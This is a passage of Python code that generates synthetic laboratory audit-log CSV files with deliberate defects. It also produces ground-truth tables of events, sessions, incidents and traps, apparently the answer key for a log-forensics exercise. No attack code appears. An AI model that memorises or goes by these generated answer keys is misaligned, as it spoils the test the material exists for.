        hostile_truth.append({"lab": lab.code, "field": "detail", "value": value, "account": ""})


def _write_lab(
    lab: Lab,
    ev: Block,
    tags: list[Tag],
    out: Path,
    d0: int,
    d1: int,
    gz_days: int,
    artefacts: bool,
    sess_offset: int,
) -> dict:
    """Sort, format and write one lab's daily files; return its truth tables."""
    rng = lab.rng
    off = np.where(ev["shift"], 3600, local_offset(ev["t"]))
    wall = ev["t"] + off
    fday = wall // DAY
    keep = (fday >= d0) & (fday <= d1)
    ev = ev_take(ev, keep)
    off, wall, fday = off[keep], wall[keep], fday[keep]
    order = np.lexsort((np.arange(len(fday)), ev["t"], fday))
    ev = ev_take(ev, order)
    off, wall, fday = off[order], wall[order], fday[order]
    sec = wall % DAY
    n = len(fday)
    # sessions: compact numbering in order of first event
    has = ev["sess"] >= 0
    uniq, first_idx, inv = np.unique(ev["sess"][has], return_index=True, return_inverse=True)
    rank = np.empty(len(uniq), np.int64)
    rank[np.argsort(first_idx, kind="stable")] = np.arange(len(uniq))
    sess = np.full(n, -1, np.int64)
    sess[has] = rank[inv]
    ns = len(uniq)
    role_of_acc = np.array([a.role for a in lab.accounts])
    # app session ids: daily counter per local day of the session's first event
    s_first = np.full(ns, n, np.int64)
    np.minimum.at(s_first, sess[has], np.flatnonzero(has))
    s_acc = ev["acc"][s_first] if ns else np.zeros(0, np.int32)
    s_day = fday[s_first] if ns else np.zeros(0, np.int64)
    batch = role_of_acc[s_acc] == "INTERFACE" if ns else np.zeros(0, bool)
    cnt = np.zeros(ns, np.int64)
    nb_ = ~batch
    if ns:
        o = np.flatnonzero(nb_)  # already in first-event order
        d = s_day[o]
        starts = np.r_[0, np.flatnonzero(d[1:] != d[:-1]) + 1]
        grp_first = np.repeat(starts, np.diff(np.r_[starts, len(o)]))
        cnt[o] = np.arange(len(o)) - grp_first + 1
    sid_tab = pa.array([f"A{c:04d}" if c else "" for c in cnt.tolist()] + [""])
    ev_sid = np.where(sess >= 0, sess, ns)

    legacy = fday < lab.migration
    # ---- string tables
    acc_q = pa.array([csv_quote(a.name) for a in lab.accounts])
    role_u = pa.array([a.role for a in lab.accounts])
    role_l = pa.array([a.role.lower() for a in lab.accounts])
    host_q = pa.array([csv_quote(h) for h in lab.hosts.values])
    ip_q = pa.array([csv_quote(i) for i in lab.ips.values])
    det_l = pa.array([csv_quote(s.replace("\n", "\r\n")) for s in lab.details.values])
    det_c = pa.array([csv_quote(s) for s in lab.details.values])
    mod_u, mod_l = pa.array(list(MODULES)), pa.array([m.lower() for m in MODULES])
    act_u, act_l = pa.array(list(ACTS)), pa.array([a.lower() for a in ACTS])
    site_t = pa.array([f"S{i}" for i in range(lab.n_sites + 2)])
    ipp_t = pa.array([str(x) for x in lab.ipp.tolist()]) if len(lab.ipp) else pa.array([""])
    days_all = np.arange(d0, d1 + 1)
    ddates = days_all.astype("datetime64[D]")
    iso_t = pa.array([str(x) for x in ddates])
    fr_t = pa.array([f"{s[8:10]}/{s[5:7]}/{s[0:4]}" for s in iso_t.to_pylist()])
    hms = hms_table()
    offs_t = pa.array(["+01:00", "+02:00"])

    def rows(mask: np.ndarray, dialect: str) -> tuple[np.ndarray, np.ndarray]:
        ix = np.flatnonzero(mask)
        if not len(ix):
            return np.zeros(0, np.uint8), np.zeros(1, np.int64)
        e = {k: v[ix] for k, v in ev.items()}
        pat = e["pat"]
        ipp = _take_masked(ipp_t, pat)
        dos = pa.array(e["dos"], mask=e["dos"] < 0).cast(pa.string()).fill_null("")
        nbv = e["nb"]
        if dialect == "legacy":
            nb_col = pa.array(nbv, mask=nbv < 0).cast(pa.string()).fill_null("")
            big = nbv >= 1000
            if big.any():  # French digit grouping on some large counts
                nb_col = pc.replace_with_mask(
                    nb_col, pa.array(big), pa.array(group_digits(nbv[big], rng), pa.string())
                )
            cols = [
                fr_t.take(pa.array(fday[ix] - d0)),
                hms.take(pa.array(sec[ix])),
                pa.array(np.full(len(ix), lab.legacy_label or lab.code)),
                site_t.take(pa.array(e["site"])),
                acc_q.take(pa.array(e["acc"])),
                role_u.take(pa.array(e["acc"])),
                host_q.take(pa.array(e["host"])),
                ip_q.take(pa.array(e["ip"])),
                mod_u.take(pa.array(e["mod"])),
                act_u.take(pa.array(e["act"])),
                pa.array(np.where(e["ok"], "OK", "KO")),
                ipp,
                dos,
                nb_col,
                det_l.take(pa.array(e["det"])),
            ]
            return format_rows(cols, "\r\n")
        ts = pc.binary_join_element_wise(
            iso_t.take(pa.array(fday[ix] - d0)), hms.take(pa.array(sec[ix])), "T"
        )
        ts = pc.binary_join_element_wise(
            ts, offs_t.take(pa.array((off[ix] == 7200).astype(np.int64))), ""
        )
        vol = e["vol"]
        cols = [
            ts,
            pa.array(np.full(len(ix), lab.code)),
            site_t.take(pa.array(e["site"])),
            acc_q.take(pa.array(e["acc"])),
            role_l.take(pa.array(e["acc"])),
            host_q.take(pa.array(e["host"])),
            ip_q.take(pa.array(e["ip"])),
            mod_l.take(pa.array(e["mod"])),
            act_l.take(pa.array(e["act"])),
            pa.array(np.where(e["ok"], "succes", "echec")),
            ipp,
            dos,
            pa.array(nbv, mask=nbv < 0).cast(pa.string()).fill_null(""),
            pa.array(vol, mask=vol < 0).cast(pa.string()).fill_null(""),
            sid_tab.take(pa.array(ev_sid[ix])),
            det_c.take(pa.array(e["det"])),
        ]
        return format_rows(cols, "\n")

    data_l, offs_l = rows(legacy, "legacy")
    data_c, offs_c = rows(~legacy, "current")
    # physical lines per row (embedded line breaks in quoted fields)
    nlines = np.zeros(n, np.int64)
    for mask, data, offs in ((legacy, data_l, offs_l), (~legacy, data_c, offs_c)):
        ix = np.flatnonzero(mask)
        if len(ix):
            nl = np.flatnonzero(data == 10)
            nlines[ix] = np.bincount(np.searchsorted(offs, nl, side="right") - 1, minlength=len(ix))
    # row position within its dialect buffer
    rpos = np.zeros(n, np.int64)
    rpos[legacy] = np.arange(int(legacy.sum()))
    rpos[~legacy] = np.arange(int((~legacy).sum()))

    file_days, f_start = np.unique(fday, return_index=True)
    f_end = np.r_[f_start[1:], n]
    names = []
    for d in file_days.tolist():
        s = str(np.datetime64(d, "D"))
        if d < lab.migration:
            nm = f"AUDIT_{lab.code}_{s.replace('-', '')}.csv" + (
                ".gz" if d < lab.migration - gz_days else ""
            )
        else:
            nm = f"audit_{lab.code.lower()}_{s}.csv"
        names.append(f"{lab.code}/{nm}")
    line = np.zeros(n, np.int64)
    lost = np.zeros(n, bool)
    (out / "evidence" / lab.code).mkdir(parents=True, exist_ok=True)
    prot_tag = np.array(
        [t.kind in ("a", "b", "c", "d", "billing", "statistics") for t in tags] + [False]
    )
    prot_ev = prot_tag[np.where(ev["inc"] >= 0, ev["inc"], len(tags))]
    prot_file = np.bincount(np.searchsorted(file_days, fday)[prot_ev], minlength=len(file_days)) > 0
    plan = art.plan_artefacts(lab, file_days, names, prot_file, rng) if artefacts else {}
    files: dict[str, dict] = {}
    art_truth: list[dict] = []
    prev_rows: tuple[str, list[bytes]] | None = None
    for fi, d in enumerate(file_days.tolist()):
        s, e = int(f_start[fi]), int(f_end[fi])
        is_leg = d < lab.migration
        data, offs = (data_l, offs_l) if is_leg else (data_c, offs_c)
        r0, r1 = int(rpos[s]), int(rpos[e - 1]) + 1
        body = data[offs[r0] : offs[r1]].tobytes()
        if is_leg:
            body = body.decode("utf-8").encode("cp1252")
            head = (LEGACY_HEADER + "\r\n").encode("cp1252")
        else:
            head = BOM + (CURRENT_HEADER + "\n").encode("utf-8")
        ln = 2 + np.concatenate([[0], np.cumsum(nlines[s:e])[:-1]])
        acc = {
            "rows_read": e - s,
            "events": e - s,
            "rotation_duplicates": 0,
            "repeated_headers": 0,
            "quarantined": 0,
            "ignored": 0,
            "truncated": False,
        }
        name = names[fi]
        kind = plan.get(fi)
        if kind is None:
            raw = head + body
        else:
            raw, ln, lost_rel = art.apply(
                kind,
                lab,
                name,
                head,
                body,
                is_leg,
                ln,
                nlines[s:e],
                prev_rows,
                acc,
                art_truth,
                rng,
                d,
            )
            if kind == "gzip_cut":
                acc["events"] = int((~lost_rel).sum())
            lost[s:e] = lost_rel
        line[s:e] = ln
        if name.endswith(".gz") and kind != "gzip_cut":
            raw = gzip_bytes(raw)
        (out / "evidence" / name).write_bytes(raw)
        files[name] = acc
        prev_rows = (
            (name, art.split_rows(body, nlines[s:e])) if plan.get(fi + 1) == "rotation" else None
        )
    # ts_quality for legacy rows (fall-back hour resolved by the file's own order; shifted rows)
    tsq = np.zeros(n, np.int8)  # index into TS_QUALITY
    tsq[ev["shift"] & legacy] = 3
    for y in sorted({date_of(int(x)).year for x in file_days.tolist()}):
        f_t = dst_bounds(y)[1]
        amb = legacy & (ev["t"] >= f_t - 3600) & (ev["t"] < f_t + 3600)
        tsq[amb] = 1
        if amb.any():
            for i in np.flatnonzero(amb)[:1]:
                art_truth.append({"kind": "fallback_hour", "file": names[int(np.searchsorted(file_days, fday[i]))],
                                  "line": int(line[i]), "n_rows": int(amb.sum())})  # fmt: skip
    for i in np.flatnonzero(ev["shift"] & legacy):
        art_truth.append(
            {
                "kind": "nonexistent_hour",
                "file": names[int(np.searchsorted(file_days, fday[i]))],
                "line": int(line[i]),
            }
        )
    for i in np.flatnonzero(ev["act"] == A["ARCHIVAGE"]):
        art_truth.append({"kind": "unknown_action", "file": names[int(np.searchsorted(file_days, fday[i]))],
                          "line": int(line[i]), "code": "ARCHIVAGE" if legacy[i] else "archivage"})  # fmt: skip

    # ---- truth tables
    fidx = np.searchsorted(file_days, fday)
    tag_inc = pa.array([t.id if t.group == "incident" else "" for t in tags] + [""])
    tag_trap = pa.array([t.id if t.group == "trap" else "" for t in tags] + [""])
    tix = pa.array(np.where(ev["inc"] >= 0, ev["inc"], len(tags)))
    acc_raw = pa.array([a.name for a in lab.accounts])
    leg_pa = pa.array(legacy)
    act_written = pc.if_else(
        leg_pa, act_u.take(pa.array(ev["act"])), act_l.take(pa.array(ev["act"]))
    )
    det_written = pc.if_else(
        leg_pa,
        pa.array([s.replace("\n", "\r\n") for s in lab.details.values]).take(pa.array(ev["det"])),
        pa.array(lab.details.values).take(pa.array(ev["det"])),
    )
    cnt_ext = np.r_[cnt, 0]
    app = sid_tab.take(pa.array(ev_sid, mask=legacy | (cnt_ext[ev_sid] == 0)))
    events = pa.table(
        {
            "source_file": pa.array(names).take(pa.array(fidx)),
            "source_line": pa.array(line),
            "ts": pa.array(ev["t"] * 1_000_000_000, type=pa.timestamp("ns", tz="UTC")),
            "ts_quality": pa.array(
                ["exact", "ambiguous_resolved", "ambiguous_unresolved", "nonexistent_shifted"]
            ).take(pa.array(tsq)),
            "lab": pa.array(np.full(n, lab.code)),
            "site": site_t.take(pa.array(ev["site"])),
            "account": acc_raw.take(pa.array(ev["acc"])),
            "role": role_u.take(pa.array(ev["acc"])),
            "host": pa.array(lab.hosts.values).take(pa.array(ev["host"])),
            "src_ip": pa.array(lab.ips.values).take(pa.array(ev["ip"])),
            "module": mod_u.take(pa.array(ev["mod"])),
            "action": pa.array(act_written, type=pa.string()),
            "outcome": pa.array(np.where(ev["ok"], "success", "failure")),
            "ipp": ipp_t.take(pa.array(ev["pat"], mask=ev["pat"] < 0)),
            "request": pa.array(ev["dos"], mask=ev["dos"] < 0).cast(pa.string()),
            "records": pa.array(ev["nb"], mask=ev["nb"] < 0),
            "bytes": pa.array(ev["vol"], mask=(ev["vol"] < 0) | legacy),
            "app_session": app,
            "detail": pa.array(det_written, type=pa.string()),
            "incident": tag_inc.take(tix),
            "trap": tag_trap.take(tix),
            "session": pa.array(np.where(sess >= 0, sess + sess_offset, -1)),
            "lost": pa.array(lost),
        },
        schema=TRUTH_EVENT_SCHEMA,
    )
    # sessions
    s_last = np.full(ns, -1, np.int64)
    np.maximum.at(s_last, sess[has], np.flatnonzero(has))
    n_ev = np.bincount(sess[has], minlength=ns)
    n_lost = np.bincount(sess[has & lost], minlength=ns)
    lo_ = np.bincount(sess[has & (ev["act"] == A["DECONNEXION"])], minlength=ns) > 0
    # concurrent: overlaps another session of the same account (shared account, two places)
    s_t0, s_t1 = ev["t"][s_first], ev["t"][s_last]
    conc = np.zeros(ns, bool)
    for a_ in np.unique(s_acc).tolist():
        w = np.flatnonzero(s_acc == a_)
        w = w[np.lexsort((s_t1[w], s_t0[w]))]
        prev_max = np.maximum.accumulate(s_t1[w])
        c = np.zeros(len(w), bool)
        c[1:] |= s_t0[w][1:] <= prev_max[:-1]
        c[:-1] |= s_t1[w][:-1] >= s_t0[w][1:]
        conc[w] = c
    fs = ev["fsess"]
    fpos = np.minimum(np.searchsorted(uniq, fs), max(len(uniq) - 1, 0))
    fok = (fs >= 0) & (uniq[fpos] == fs) if ns else np.zeros(n, bool)
    failed_before = np.bincount(rank[fpos[fok]], minlength=ns) if ns else np.zeros(0, np.int64)
    s_tag = np.full(ns, len(tags), np.int64)
    s_tag[sess[has]] = np.where(ev["inc"][has] >= 0, ev["inc"][has], len(tags))
    sessions = pa.table(
        {
            "session": pa.array(np.arange(ns) + sess_offset),
            "lab": pa.array(np.full(ns, lab.code)),
            "account": acc_raw.take(pa.array(s_acc)),
            "role": role_u.take(pa.array(s_acc)),
            "start": pa.array(ev["t"][s_first] * 1_000_000_000, type=pa.timestamp("ns", tz="UTC")),
            "end": pa.array(ev["t"][s_last] * 1_000_000_000, type=pa.timestamp("ns", tz="UTC")),
            "n_events": pa.array(n_ev.astype(np.int64)),
            "n_lost": pa.array(n_lost.astype(np.int64)),
            "has_logout": pa.array(lo_),
            "host": pa.array(lab.hosts.values).take(pa.array(ev["host"][s_first])),
            "concurrent": pa.array(conc),
            "failed_logins_before": pa.array(failed_before.astype(np.int64)),
            "app_session": sid_tab.take(
                pa.array(np.arange(ns), mask=(cnt == 0) | (s_day < lab.migration))
            ),
            "incident": tag_inc.take(pa.array(s_tag)),
            "trap": tag_trap.take(pa.array(s_tag)),
        },
        schema=TRUTH_SESSION_SCHEMA,
    )
    # per-tag event lists (incidents and billing/statistics traps: small)
    tag_stats: dict[str, dict] = {}
    inc = ev["inc"]
    for ti, tg in enumerate(tags):
        w = np.flatnonzero(inc == ti)
        info: dict = {"n_events": int(len(w))}
        if len(w):
            info["window"] = {"start": _iso(ev["t"][w[0]]), "end": _iso(ev["t"][w].max())}
        if tg.kind in ("a", "b", "c", "d", "billing", "statistics"):
            info["events"] = [[names[int(fidx[i])], int(line[i])] for i in w.tolist()]
        else:
            info["files"] = int(len(np.unique(fidx[w])))
        tag_stats[tg.id] = info
    return {
        "events": events,
        "sessions": sessions,
        "n_events": n,
        "files": files,
        "artefacts": art_truth,
        "tag_stats": tag_stats,
    }


def _take_masked(table: pa.Array, idx: np.ndarray) -> pa.Array:
    return table.take(pa.array(idx, mask=idx < 0)).fill_null("")
